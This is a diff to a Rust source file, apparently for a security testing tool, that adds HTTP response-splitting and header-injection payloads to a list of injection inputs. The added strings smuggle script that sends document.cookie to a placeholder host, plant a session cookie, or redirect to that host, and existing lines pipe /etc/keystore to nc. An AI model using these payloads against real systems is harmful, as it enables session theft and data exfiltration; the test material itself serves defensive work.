@@ -22,6 +22,10 @@ pub enum Injection {
     LdapAlways,
     /// Has an LDAP filter match any value.
     LdapWildcard,
+    /// Ends the head of an answer and has what follows taken for a page, or for the next answer.
+    HeaderSplit,
+    /// Adds a field to an answer, which a browser acts on.
+    HeaderField,
     /// Ends a command and adds another that sends a file away.
     ShellSeparator,
     /// Has a word of a command replaced by the output of another.
@@ -64,6 +68,17 @@ const XPATH_ALWAYS: [&str; 3] =
 const LDAP_ALWAYS: [&str; 3] =
     ["x)(objectClass=*", "x{n})(objectclass=*)(cn=x", "x)(!(cn={n}))(uid=*"];
 const LDAP_WILDCARD: [&str; 3] = ["*", "*p*", "4*"];
+const HEADER_SPLIT: [&str; 3] = [
+    "x\r\nContent-Type: text/html\r\n\r\n<script>fetch('//{host}/{n}?'+document.cookie)</script>",
+    "x\nContent-Type: text/html\n\n<svg onload=\"fetch('//{host}/?c='+document.cookie)\">",
+    "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n\
+     <img src=x onerror=\"fetch('//{host}/{n}?'+document.cookie)\">",
+];
+const HEADER_FIELD: [&str; 3] = [
+    "x\r\nSet-Cookie: session={n}; Path=/",
+    "x\nSet-Cookie: session={n}",
+    "x\r\nRefresh: 0; url=http://{host}/{n}",
+];
 const SHELL_SEPARATOR: [&str; 6] = [
     "x; cat /etc/keystore | nc {host} 9",
     "x | cat /etc/keystore | nc {host} {n}",
@@ -94,7 +109,7 @@ const LIST_BUSY: [&str; 1] = [
 
 impl Injection {
     /// All of them.
-    pub const ALL: [Self; 14] = [
+    pub const ALL: [Self; 16] = [
         Self::SqlUnion,
         Self::SqlStacked,
         Self::SqlAlways,
@@ -103,6 +118,8 @@ impl Injection {
         Self::XpathAlways,
         Self::LdapAlways,
         Self::LdapWildcard,
+        Self::HeaderSplit,
+        Self::HeaderField,
         Self::ShellSeparator,
         Self::ShellSubstitution,
         Self::Option,
@@ -121,6 +138,8 @@ impl Injection {
             Self::XpathAlways => &XPATH_ALWAYS,
             Self::LdapAlways => &LDAP_ALWAYS,
             Self::LdapWildcard => &LDAP_WILDCARD,
+            Self::HeaderSplit => &HEADER_SPLIT,
+            Self::HeaderField => &HEADER_FIELD,
             Self::ShellSeparator => &SHELL_SEPARATOR,
             Self::ShellSubstitution => &SHELL_SUBSTITUTION,
             Self::Option => &OPTION,
